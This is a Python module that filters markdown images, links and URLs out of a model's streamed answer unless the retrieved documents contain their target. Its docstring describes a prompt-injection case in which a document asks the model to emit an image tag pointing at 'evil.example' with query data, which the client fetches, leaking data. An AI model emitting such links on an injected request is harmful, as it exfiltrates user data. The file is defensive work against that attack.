"""Markdown images and links in the /v1 answer, kept only when the documents hold their target.

/v1 clients (Open WebUI, chat apps) render the answer as markdown. A document can ask the model
to write `![](https://evil.example/?q=...)`, which the client would fetch at once, or a link to
a phishing page. So an image or link whose target is not in the passages the model was given is
dropped (a link keeps its text); one the documents themselves hold stays.

`LinkFilter` works on a stream: text that may still become a link (an open `[`, `![`, `<` or a
URL still being written) is held back until it is complete, at most HOLD_CHARS characters.
"""
from __future__ import annotations

import re

HOLD_CHARS = 600
_TARGET = r"\(\s*<?([^()\s<>]*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)"
IMAGE = re.compile(r"!\[([^\]\n]*)\]" + _TARGET)
LINK = re.compile(r"\[([^\]\n]*)\]" + _TARGET)
REFERENCE = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.M)  # [id]: https://...
HTML_IMAGE = re.compile(r"<img\b[^>]*>", re.I)
HTML_LINK = re.compile(r"<a\b[^>]*?href\s*=\s*[\"']?([^\"'\s>]*)[^>]*>(.*?)</a\s*>", re.I | re.S)
AUTOLINK = re.compile(r"<((?:https?|ftp|mailto):[^>\s]*)>", re.I)
BARE_URL = re.compile(r"(?<![A-Za-z0-9/])(?:(?:https?|ftp)://|www\.)[A-Za-z0-9\-._~:/?#\[\]@!$&'*+,;=%]+", re.I)
# The tail of the text that may still grow into one of the above.
OPEN_TAIL = re.compile("(?:" + "|".join([
    r"^[ \t]*\[[^\]\n]+\]:[^\n]*",  # a reference definition, until its line ends
    r"!?\[[^\]\n]*(?:\](?:\([^)\n]*)?)?",  # [text](target or ![alt](target, not yet closed
    r"!",
    r"<a\b(?:(?!</a\s*>)[^\n])*",  # <a href=...>text, until </a>
    r"<[^>\n]*",  # any other tag, until >
    # a bare URL being written (not one inside a link or tag: those are held above)
    r"(?<![A-Za-z0-9(<=\"'])(?:h(?:t(?:t(?:p(?:s?(?::(?:/(?:/\S*)?)?)?)?)?)?)?|w(?:w(?:w(?:\.\S*)?)?)?)",
]) + r")\Z", re.I | re.M)


class LinkFilter:
    def __init__(self, documents: str):
        self.documents = documents  # the text the model was given; a target found in it may stay
        self.held = ""

    def allowed(self, target: str) -> bool:
        target = target.strip()
        return bool(target) and target in self.documents

    def clean(self, text: str) -> str:
        text = IMAGE.sub(lambda m: m.group(0) if self.allowed(m.group(2)) else "", text)
        text = LINK.sub(lambda m: m.group(0) if self.allowed(m.group(2)) else m.group(1), text)
        text = REFERENCE.sub(lambda m: m.group(0) if self.allowed(m.group(1)) else "", text)
        text = HTML_IMAGE.sub("", text)
        text = HTML_LINK.sub(lambda m: m.group(0) if self.allowed(m.group(1)) else m.group(2), text)
        text = AUTOLINK.sub(lambda m: m.group(0) if self.allowed(m.group(1)) else "", text)
        return BARE_URL.sub(lambda m: m.group(0) if self.allowed(m.group(0)) else "", text)

    def feed(self, piece: str) -> str:
        """The part of the text so far that can be sent now, cleaned."""
        text = self.held + piece
        tail = OPEN_TAIL.search(text)
        cut = tail.start() if tail and len(text) - tail.start() <= HOLD_CHARS else len(text)
        self.held = text[cut:]
        return self.clean(text[:cut])

    def finish(self) -> str:
        text, self.held = self.held, ""
        return self.clean(text)
